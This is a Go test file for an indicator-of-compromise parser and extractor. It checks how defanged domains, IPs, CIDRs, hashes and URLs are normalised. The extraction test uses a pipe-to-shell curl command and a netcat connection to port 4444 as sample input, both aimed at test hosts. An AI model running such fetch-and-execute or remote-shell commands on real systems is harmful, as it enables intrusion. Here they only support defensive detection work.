package observable_test

import (
	"testing"

	"noroshi/observable"
)

func TestParseNormalises(t *testing.T) {
	for in, want := range map[string]observable.Observable{
		"Example.COM.":                             {Kind: observable.Domain, Value: "example.com"},
		"日本語.jp":                                   {Kind: observable.Domain, Value: "xn--wgv71a119e.jp"},
		"ｅｘａｍｐｌｅ．ｃｏｍ":                              {Kind: observable.Domain, Value: "example.com"},
		"evil[.]example[dot]com":                   {Kind: observable.Domain, Value: "evil.example.com"},
		"_dmarc.example.com":                       {Kind: observable.Domain, Value: "_dmarc.example.com"},
		"192.0.2.1":                                {Kind: observable.IPv4, Value: "192.0.2.1"},
		"::ffff:192.0.2.1":                         {Kind: observable.IPv4, Value: "192.0.2.1"},
		"2001:DB8:0:0::1":                          {Kind: observable.IPv6, Value: "2001:db8::1"},
		"[2001:db8::1]":                            {Kind: observable.IPv6, Value: "2001:db8::1"},
		"192.0.2.77/24":                            {Kind: observable.CIDR, Value: "192.0.2.0/24"},
		"::ffff:192.0.2.0/120":                     {Kind: observable.CIDR, Value: "192.0.2.0/24"},
		"192.0.2.1/32":                             {Kind: observable.IPv4, Value: "192.0.2.1"},
		"D41D8CD98F00B204E9800998ECF8427E":         {Kind: observable.MD5, Value: "d41d8cd98f00b204e9800998ecf8427e"},
		"hxxps[:]//User@Example[.]com:443/A?b=1#c": {Kind: observable.URL, Value: "https://example.com/A?b=1"},
		"http://192.0.2.1:8080":                    {Kind: observable.URL, Value: "http://192.0.2.1:8080/"},
	} {
		got, err := observable.Parse(in)
		if err != nil || got != want {
			t.Errorf("%q is %+v, %v; want %+v", in, got, err, want)
		}
	}
}

func TestParseRefuses(t *testing.T) {
	for _, in := range []string{"", ".", "localhost", "192.0.2", "192.0.2.256", "0x7f.1", "010.0.0.1.", "fe80::1%eth0", "a..b", "exa mple.com",
		"javascript://x", "http://", "foo/bar", "-", "a.b\x00c", "::ffff:0.0.0.0/8"} {
		if got, err := observable.Parse(in); err == nil {
			t.Errorf("%q was taken as %+v", in, got)
		}
	}
}

func TestExtractFindsHostsAndNotFiles(t *testing.T) {
	for text, want := range map[string][]string{
		"curl -fsSL http://a.drill.noroshi.test/x.sh | sh":   {"a.drill.noroshi.test", "http://a.drill.noroshi.test/x.sh"},
		"ping -c1 evil.example.com; python run.py conf.json": {"evil.example.com"},
		"/usr/lib/libc.so.6 ./install.sh $HOME.d":            nil,
		"nc 203.0.113.9 4444 127.0.0.1":                      {"203.0.113.9"},
		"sha256sum d41d8cd98f00b204e9800998ecf8427e":         {"d41d8cd98f00b204e9800998ecf8427e"},
	} {
		var got []string
		for _, o := range observable.Extract(text, 10) {
			got = append(got, o.Value)
		}
		if len(got) != len(want) {
			t.Errorf("%q: %q, want %q", text, got, want)
			continue
		}
		for i := range want {
			if got[i] != want[i] {
				t.Errorf("%q: %q, want %q", text, got, want)
			}
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"example.com", "hxxp://a[.]b.c/d", "::1", "10.0.0.0/8", "日本語.jp", "a。b", "[::1]", "http://[::1]:1/"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		o, err := observable.Parse(s)
		if err != nil {
			return
		}
		again, err := observable.Parse(o.Value)
		if err != nil || again != o {
			t.Errorf("%q is %+v, which reads as %+v, %v", s, o, again, err)
		}
		back, err := observable.Parse(o.Defang())
		if err != nil || back != o {
			t.Errorf("%+v is defanged to %q, which reads as %+v, %v", o, o.Defang(), back, err)
		}
		observable.Extract(s, 5)
	})
}
